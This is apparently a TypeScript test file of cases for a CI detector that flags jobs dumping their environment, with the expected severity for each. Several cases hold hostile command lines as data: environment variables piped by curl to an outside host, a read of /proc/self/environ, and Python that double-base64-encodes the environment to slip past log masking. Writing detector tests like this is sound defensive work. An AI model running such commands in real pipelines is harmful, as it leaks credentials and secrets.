// Cases of environment-dumped.
import { activityAt, type DetectorCase } from '../../services/core/detector-case.ts';

const AT = Date.UTC(2026, 2, 3, 14);

function started(commandLine: string | undefined, executable = '/usr/bin/bash') {
  return activityAt(
    AT,
    'process',
    { action: 'start' },
    {
      source: 'tetragon',
      vcs: { repository: { name: 'example/app' } },
      cicd: { pipeline: { name: 'ci', task: { name: 'test' } }, worker: { name: 'runner 7' } },
      process: { executable, ...(commandLine !== undefined && { command_line: commandLine }) },
    },
  );
}

function step(command: string) {
  return activityAt(
    AT,
    'step',
    { name: 'test', ordinal: 1, command, first_line: 1, last_line: 9 },
    {
      source: 'gitlab.job-log',
      vcs: { repository: { name: 'example/app' } },
      cicd: { pipeline: { name: 'ci', task: { name: 'test' } } },
    },
  );
}

export const cases: readonly DetectorCase[] = [
  {
    name: 'A shell reads its process’s environment from the kernel',
    kind: 'hit',
    history: [],
    activity: started('/bin/sh -c id; uname -a; cat /proc/self/environ'),
    expected: 'medium',
  },
  {
    name: 'The environment goes to a tool that sends it away',
    kind: 'hit',
    history: [],
    activity: started('sh -c "env | curl -s -d @- https://files.example.net"'),
    expected: 'high',
  },
  {
    name: 'A step prints its environment',
    kind: 'hit',
    history: [],
    activity: started('printenv', '/usr/bin/printenv'),
    expected: 'informational',
  },
  {
    name: 'A script, as the log shows it, sends its environment away',
    kind: 'hit',
    history: [],
    activity: step('make test\nprintenv | sort | curl -sS --data-binary @- https://files.example.net'),
    expected: 'high',
  },
  {
    name: 'A line of Python prints it, twice encoded, so that no mask of the log fits',
    kind: 'hit',
    history: [],
    activity: started(
      'python3 -c "import os,base64;e=base64.b64encode;print(e(base64.b64encode(str(dict(os.environ)).encode())))"',
      '/usr/bin/python3',
    ),
    expected: 'high',
  },
  {
    name: 'A shell encodes it',
    kind: 'hit',
    history: [],
    activity: step('env | sort | base64 -w0'),
    expected: 'high',
  },
  {
    name: 'A script hands its environment on to what it starts',
    kind: 'near-miss',
    history: [],
    activity: started(
      "python3 -c \"import os,subprocess,base64;subprocess.run(['make'],env=dict(os.environ));base64.b64encode(b'x')\"",
      '/usr/bin/python3',
    ),
    expected: null,
  },
  {
    name: 'A script prints its environment, and another line of it sends a report',
    kind: 'near-miss',
    history: [],
    activity: step('env | sort\ncat report.json | curl -s -d @- https://files.example.net'),
    expected: null,
  },
  {
    name: 'A program is started with a variable of its own',
    kind: 'near-miss',
    history: [],
    activity: started('env NODE_ENV=test node main.js', '/usr/bin/env'),
    expected: null,
  },
  {
    name: 'The first thing that is ever seen',
    kind: 'cold-start',
    history: [],
    activity: started('sh -c "env | sort"'),
    expected: 'informational',
  },
  {
    name: 'A process without a command line',
    kind: 'malformed',
    history: [],
    activity: started(undefined),
    expected: null,
  },
];
